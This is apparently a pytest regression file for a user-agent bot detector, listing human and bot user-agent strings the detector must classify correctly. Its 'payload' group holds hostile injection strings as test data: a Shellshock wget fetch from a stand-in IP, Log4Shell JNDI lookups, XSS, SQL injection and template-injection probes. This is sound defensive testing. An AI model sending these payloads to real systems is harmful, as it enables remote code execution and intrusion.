"""Regression tables of the kinds of user agents the first detector got wrong (issue 15).

Each group is one kind the issue lists. People first (they were flagged), then bots (they
were missed). The strings are written in the public formats these clients send; where one
is quoted from a corpus, the corpus is the MIT-licensed JayBizzle list the shipped samples
come from.
"""

from __future__ import annotations

import pytest

from edgefilter import BotDetector
from edgefilter._bots import SHAPE_BOT_SCORE, family_alternatives, people_patterns

detector = BotDetector()

PEOPLE = {
    # feature phones, WAP and Java ME browsers: no engine token, a handset name instead
    "feature phone": [
        "Nokia6300/2.0 (05.00) Profile/MIDP-2.0 Configuration/CLDC-1.1",
        "SAMSUNG-SGH-E250/1.0 Profile/MIDP-2.0 Configuration/CLDC-1.1 UP.Browser/6.2.3.3.c.1.101 (GUI) MMP/2.0",
        "DoCoMo/2.0 P903i(c100;TB;W24H12)",
        "KDDI-CA39 UP.Browser/6.2.0.13.1.5 (GUI) MMP/2.0",
        "Micromax X267/MAUI-browser/MIDP2.0/CLDC1.1/Screen-128X160",
        "LAVA_A1 MRE/3.1.00(1024);MAUI/W1;BDATE/2016/01/01;LCD/240320;CHIP/MT6261",
        "lephone K7/Dorado WAP-Browser/1.0.0",
        "portalmmm/2.0 S500i(c20;TB)",
    ],
    # UC Browser's own formats
    "UC Browser": [
        "dv(iPh12,1);pr(UCBrowser/13.4.0.1306);ov(14_4);ss(414x896);bt(UC);pm(1);bv(0);nm(0);im(0);nt(1);",
        "UCWEB/2.0 (MIDP-2.0; U; Adr 9; en-US; SM-A505F) U2/1.0.0 UCBrowser/13.1.8.1295 U2/1.0.0 Mobile",
    ],
    # a bare device name, and devices only uap-core's catalogue knows
    "bare device": [
        "iPhoneXSMax",
        "iPad8,1",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_7_3)",
    ],
    # in-app clients on CFNetwork/Darwin: video, podcast, chat apps
    "CFNetwork app": [
        "Podcasts/1560.4 CFNetwork/1220.1 Darwin/20.3.0",
        "Telegram/8.4 CFNetwork/1329 Darwin/21.3.0",
        "YouTube/17.33.2 CFNetwork/1335.0.3 Darwin/21.6.0",
        "Spotify/8.7.70 iOS/16.0 (iPhone15,2)",
    ],
    # media and podcast apps that name what they are
    "media app": [
        "AntennaPod/3.2.0",
        "TuneIn Radio",
        "VLC/3.0.20 LibVLC/3.0.20",
    ],
    # apps named "...Reader" (a document reader, a media player, a news app): the word
    # alone is no bot token (feed readers say "feed" or "rss", or are named in TOKENS)
    "reader app": [
        "GoodReader4/100 CFNetwork/711.3.18 Darwin/14.0.0",
        "J. River Internet Reader/2.0 (compatible; Windows-Media-Player/10)",
        "ExampleNewsReader/2.0.1 (Android)",
    ],
    # smart TVs, set-top boxes and consoles ("Google TV" names a device, not a bot)
    "TV and console": [
        "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36 WebAppManager",
        "Roku/DVP-12.0 (12.0.0.4182-88)",
        # a TV's model or test-build tag ("TEST", "TestingDevice") is not a test tool
        "Opera/9.80 (Linux mips; Opera TV Store/6162; HbbTV/1.2.1 (; Altech UEC; PVR9600; ; ; )) Presto/2.12.407 Version/12.51 Model/AltechMultimedia-TestingDevice",
        "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/68.0.3440.106 Safari/537.36 HbbTV/1.5.1 (+DRM; LGE/KONKA/TEST; 43WOS620D; 03.10.01; 0x00000001;)",
        "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)",
        "HbbTV/1.1.1 (+PVR;Humax;HD FOX+;1.00.12;1.0)CE-HTML/1.0 ANTGalio/3.1.1.23.04.09",
        "Mozilla/5.0 (Linux; Android 11; Grundig Google TV Build/RTM6.230109.257; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/111.0.5563.58 Mobile Safari/537.36",
        "libhttp/3.65 (PS Vita)",
        "Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/606.4 (KHTML, like Gecko) NF/6.0.1.15.4 NintendoBrowser/5.1.0.20393",
    ],
    # text browsers (Lynx and Mosaic name the libwww they are built on)
    "text browser": [
        "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.6.5",
        "w3m/0.5.3+git20230121",
        "Links (2.29; Linux 6.1.0-13-amd64 x86_64; GNU C 12.2; text)",
        "ELinks/0.13.2 (textmode; Linux 6.1.0 x86_64; 80x24-2)",
        "NCSA_Mosaic/2.7b5 (X11;Linux 2.6.7 i686) libwww/2.12 modified",
    ],
    # Electron apps (VS Code's "Code/1." is a debatable crawler-list pattern, not used)
    "Electron": [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.29.149 Chrome/108.0.5359.179 Electron/22.1.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Code/1.85.1 Chrome/114.0.5735.289 Electron/25.9.7 Safari/537.36",
        # desktop apps named like a crawler-list entry or an AI fetcher
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Notion/2.3.2 Chrome/120.0.0.0 Electron/28.1.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Claude/0.7.8 Chrome/128.0.6613.36 Electron/32.0.1 Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Windsurf/1.2.6 Chrome/128.0.6613.186 Electron/32.2.6 Safari/537.36",
    ],
    # WebViews with unusual tokens, and device models with bot-like words in them
    "WebView and device names": [
        # no space after "Android 2.3;": the device slot is still cut out ("Sonic" is listed)
        "Mozilla/5.0 (Linux; U; Android 2.3;en-us; ViewSonic-ViewPad7e build/ERE27) AppleWebKit/533.1 (KHTML, like Gecko) Version/4.0 Mobile Safari/533.1",
        "Mozilla/5.0 (Linux; Android 7.0; M bot 54) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.96 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 13; Spider 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        "com.google.android.youtube/19.02.39 (Linux; U; Android 14; en_US; Pixel 8; Build/UQ1A.240105.004; Cronet/121.0.6167.71)",
        "Mozilla/5.0 (Linux; Android 9; KFTRWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/134.1.82 like Chrome/134.0.6998.135 Safari/537.36",
        "Mozilla/5.0 (Linux; Android 10; TLA001 Build/QP1A.190711.020; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/80.0.3987.132 Safari/537.36 SogouMSE,SogouMobileBrowser/5.22.8",
    ],
    # old and rare platforms that name an operating system
    "old platform": [
        "Mozilla/3.0 (compatible; NetPositive/2.2.1; BeOS)",
        "Mozilla/4.08 (Charon; Inferno)",
        "Mozilla/4.05 (Macintosh; I; PPC Nav)",
        "Mozilla/5.0 (SunOS 5.8 sun4u; U) Opera 5.0 [en]",
        "Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.9.0.8) Gecko Galeon/2.0.6 (Ubuntu 2.0.6-2)",
        "Mozilla/4.0+(compatible;+MSIE+6.0;+Windows+NT+5.1)",
        "Mozilla/3.0 (WorldGate Gazelle 3.5.1 build 11; FreeBSD2.2.8-STABLE)",
    ],
    # an old "Mozilla/4.0 (name)" browser is not a bare "Name/1.0 (details)" product too
    "old Mozilla": ["Mozilla/4.0 (jig browser9)", "Mozilla/4.0 (Example Browser 2; 2004)"],
    # Java ME handsets name their virtual machine: "Java/ASVM/1.1" is not the JDK's "Java/1.8"
    "Java ME": [
        "LG-T310/V100 Obigo/Q7.3 MMS/LG-MMS-V1.1/1.2 MediaPlayer/LGPlayer/1.0 Java/ASVM/1.1 Profile/MIDP-2.1 Configuration/CLDC-1.1",
        "Huawei/1.0/0HuaweiU1300/B100 Browser/Obigo-Browser/Q05A Java/HWJa/1.0 Profile/MIDP-2.0 Configuration/CLDC-1.1",
        "SonyEricssonW580i/R4EA Java/SEMC-Java/2.0 Profile/MIDP-2.0 Configuration/CLDC-1.1",
        "Mozilla/5.0 (Linux; U; Android 1.6; en-us; LG-GT540 Build/Donut) AppleWebKit/528.5+ (KHTML, like Gecko) Version/3.1.2 Mobile Safari/525.20.1 Java/Jbed/7.0 Profile/MIDP-2.1 Configuration/CLDC-1.1",
    ],
    # chat apps' own clients (WhatsApp's link fetcher sends its name and version only)
    "chat app": [
        "WhatsApp/2.11.102 Android/4.0.3 Device/HTC-HTC_One_V",
        "WhatsApp+/2.11.83 Android/4.1.2 Device/samsung-GT-S5310",
        "WhatsApp/2.11.282 WP7/8.0.10328.0 Device/NOKIA-RM-914",
    ],
    # Google the device brand: TVs, Nexus and Pixel phones
    "Google device": [
        "Mozilla/5.0 (Linux; GoogleTV 4.0.4; LG Google TV Build/000000) AppleWebKit/534.24 (KHTML, like Gecko) Chrome/11.0.696.77 Safari/534.24",
        "ExampleNews/4.3 (Pixel 6 Pro; google Pixel 6 Pro; Android 12)",
        "ExampleShop/2.8 (Android 4.3; LGE Mako / Google Nexus 4; )[locale=de_DE;clientidbase=android-google]",
        "ExampleApp Android Application (16, v2.2) - LGE Nexus 5 google - 94DA6FB1",
    ],
    # strings that quote the header's name, and TV capability lists
    "header name": ["FAKE_USER_AGENT Samsung SPH-A920", "Mozilla Nokia 6300-USER AGENT"],
    "TV capabilities": [
        "Mozilla/5.0 (Linux mipsel; U; HbbTV/1.1.1 (; TOSHIBA; DTV_RL938; 7.0.21.6; a5; ) ; ToshibaTP/1.3.0 (+VIDEO_MP4+DRM+NATIVELAUNCH+WEBSTORAGE+OFFLINEAPP) ; en) AppleWebKit/534.1 (KHTML, like Gecko)",
    ],
    # device and app names that are also bare words of the crawler list
    "device named like a bot": [
        "HTC Butterfly; 4.1.1; JRO03C; de-de",
        "ExamplePlayer (AndroidApp; 2.0.2.8) HTC Butterfly (Android 4.2.2, SDK 17)",
        "Mozilla/5.0 (Linux; U; Android 2.2.2; En-us; ViewSonic-ViewPad4 Build/FRG83G) AppleWebKit/533.1 (KHTML, Like Gecko) Version/4.0 Mobile Safari/533.1",
        "YahooMobileMail/1.0 (Android Mail; 1.3.6) (speedy;HTC;PG06100;2.2/FRF91)",
        "sprd-L008/1.0 Linux/2.6.35.7 Android/2.3.5 Browser/AppleWebKit533.1 (KHTML, like Gecko) Mozilla/5.0 Mobile",
    ],
    # browser families that uap-core lists in one regex beside a bot (bingbot, Googlebot)
    "listed beside a bot": [
        "Sleipnir/2.9.9",
        "Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.9.0.11) Gecko GranParadiso/3.0.11",
    ],
}

BOTS = {
    # generic scanners and lead-generation or SEO tools: "Mozilla" and a name, nothing else
    "generic Mozilla": [
        "Mozilla/5.0 (compatible; AcmeLeadFinder/1.0)",
        "Mozilla/5.0 (compatible)",
        "Mozilla/5.0 ExampleScanner",
        "Mozilla/5.0 (ExampleAudit/2.1)",
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:66.0) WhatCMS/1.0",
        "Mozilla/5.0 CheckerProxy/1.0",
        "Mozilla/4.0 (compatible; ExampleLeads)",
        "Mozilla/4.0 (compatible;)",
    ],
    # lead-prospecting tools that tag a browser string with their name
    "prospecting": [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) ExampleProspecting/0.1 Safari/537.36",
    ],
    # bots that uap-core lists as Spider devices: no evidence of a person either way
    "uap-core Spider": ["Riddler/1.0", "holmes/3.9"],
    # placeholder strings that uap-core's four-letter handset prefixes would call phones
    "placeholder": ["YourUserAgentHere", "blackboardally"],
    # transcoding proxies
    "transcoder": [
        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; baidu Transcoder;)",
        "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/48.0.2564.97 Safari/537.36 Yandex.Translate",
        "BlackBerry7520/4.0.0 Profile/MIDP-2.0 Configuration/CLDC-1.1 UP.Browser/5.0.3.3 UP.Link/5.1.2.12 (Google WAP Proxy/1.0)",
    ],
    # headless renderers and test-automation products that tag a normal browser string
    "automation tag": [
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Mobile Safari/537.36 Chrome-Lighthouse",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 PTST/240201.120000",
        "Mozilla/5.0 (X11; BSD Four) AppleWebKit/534.34 (KHTML, like Gecko) webkit2png Safari/534.34",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.21 (KHTML, like Gecko) imgsizer Safari/537.21",
        "Mozilla/5.0 Chrome/10.0.613.0 Safari/534.15 Zombie.js/5.0.7",
        # an impostor: a name in the engine's comment, where no browser puts one
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; ExampleRender) Chrome/98.0.4758.102 Safari/537.36",
    ],
    # network measurement and proxy checkers
    "measurement": [
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:80.0) Gecko/20100101 Firefox/80.0 ExampleNetworkMeasurement/2023",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36 ProxyChecker/2.0",
    ],
    # security scanners with injection payloads inside the user agent
    "payload": [
        '() { :;}; /bin/bash -c "wget http://198.51.100.7/x"',
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36<script>alert(1)</script>",
        "${jndi:ldap://198.51.100.7:1389/a}",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36' UNION SELECT 1,2,3--",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36' AND 1=1 --",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 ${${::-j}${::-n}di:ldap://198.51.100.7/a}",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 ${7*7}",
    ],
    # uptime and diagnostics agents
    "diagnostics": [
        "Microsoft Windows Network Diagnostics",
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        "Elastic-Heartbeat/8.12.0 (linux; amd64)",
    ],
    # AI coding-agent fetchers
    "coding agent": [
        "Claude-User/1.0",
        "GitHub-Copilot/1.155.0",
        "aider/0.86.1",
        "Cline/3.17.0",
        "codex_cli_rs/0.46.0 (Mac OS 15.6.1; arm64) iTerm.app/3.5.10",
    ],
    # link fetchers and libraries whose tokens were narrowed to keep the people above
    "narrowed token": [
        "WhatsApp/2.19.258 A",
        "WhatsApp/2.16.2/i",
        "WhatsApp",
        "Java/1.8.0_151",
        "Apache-HttpClient/4.5.2 (Java/1.8.0_72)",
        "Offline Explorer/2.5",
        "Mozilla/5.0 (compatible; Google-InspectionTool/1.0)",
    ],
    # feed readers that say neither "feed" nor "rss"
    "feed reader": [
        "Reeder/5040002 CFNetwork/1408.0.4 Darwin/22.5.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_2) AppleWebKit/537.74.9 (KHTML, like Gecko) NetNewsWire/3.3.2",
    ],
}


@pytest.mark.parametrize(("kind", "ua"), [(kind, ua) for kind, uas in PEOPLE.items() for ua in uas])
def test_people_of_each_kind(kind: str, ua: str) -> None:
    """Each kind of person the first detector flagged is a person."""
    assert detector.classify(ua) is None, kind


@pytest.mark.parametrize(("kind", "ua"), [(kind, ua) for kind, uas in BOTS.items() for ua in uas])
def test_bots_of_each_kind(kind: str, ua: str) -> None:
    """Each kind of bot the first detector missed is a bot."""
    assert detector.classify(ua) is not None, kind


def test_the_device_catalogue_is_evidence() -> None:
    """Without uap-core's catalogue, a device only it knows falls to the shape score."""
    ua = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_7_3)"
    assert BotDetector(use_device_catalogue=False).classify(ua) is not None
    assert detector.classify(ua) is None


def test_a_client_family_is_evidence() -> None:
    """A uap-core client family (here BarcaPro, a mail client) is evidence of a person."""
    ua = "BarcaPro/1.4.xxxx"
    assert BotDetector(use_device_catalogue=False).classify(ua) is not None
    assert detector.classify(ua) is None


def test_a_family_a_known_bot_matches_is_no_evidence() -> None:
    """people_patterns drops every pattern that a known bot matches, and keeps the rest."""
    assert people_patterns(["Foo/", "Bar/", "Baz/"], ["FooBot Foo/1.0", "Baz/2 Bar/3"]) == []
    assert people_patterns(["Foo/", "Bar/"], ["Baz/2"]) == ["Foo/", "Bar/"]


@pytest.mark.parametrize(
    ("pattern", "alternatives"),
    [
        # the first group's own alternatives, the rest of the pattern kept on each
        (r"(Foo|Bar)/(\d+)", [r"(Foo)/(\d+)", r"(Bar)/(\d+)"]),
        (r"\b(?:Foo|Bar) x", [r"\b(?:Foo) x", r"\b(?:Bar) x"]),
        # a nested group, a class and an escape are not cut
        (r"((?:A|B)c|[x|y]|\|)z", [r"((?:A|B)c)z", r"([x|y])z", r"(\|)z"]),
        (r"\((A|B)", [r"\((A)", r"\((B)"]),
        # nothing to cut: the pattern as it is
        ("plain", ["plain"]),
        ("(Foo)/", ["(Foo)/"]),
        ("(?P<name>A|B)", ["(?P<name>A|B)"]),
        ("(?i:A|B)", ["(?i:A|B)"]),
        ("(A|B", ["(A|B"]),
    ],
)
def test_family_alternatives(pattern: str, alternatives: list[str]) -> None:
    """A many-family pattern is cut into one pattern per family of its first group."""
    assert family_alternatives(pattern) == alternatives


def test_a_browser_list_naming_a_bot_keeps_its_other_browsers() -> None:
    """One known bot in a list of eleven families drops that family only, and the others
    stay one pattern (a set of fewer, larger patterns is cheaper to match)."""
    families = "|".join(["bingbot", *(f"Browser{n}" for n in range(10))])
    kept = people_patterns([f"({families})/"], ["bingbot/2.0"])
    assert kept == [f"({'|'.join(f'Browser{n}' for n in range(10))})/"]
    assert detector.classify("Sleipnir/2.9.9") is None  # uap-core lists it beside bingbot


def test_a_list_of_bots_is_dropped_whole() -> None:
    """More than one known bot in ten families: the list is one of bots, none is kept."""
    families = "|".join(["FooBot", "BarBot", *(f"Other{n}" for n in range(8))])
    assert people_patterns([f"({families})/"], ["FooBot/1", "BarBot/1"]) == []


def test_the_shape_score_decides_only_without_evidence() -> None:
    """Below or at the threshold a bot, above it a person; a bare product is a library."""
    assert detector._shape_verdict("Mozilla/5.0 (compatible; X/1.0)") == "crawler"
    assert detector._shape_verdict("ExampleClient/1.0") == "library"
    assert detector._shape_verdict("ExamplePlayer/1.0 (Android 14; phone)") is None
    assert SHAPE_BOT_SCORE == 0
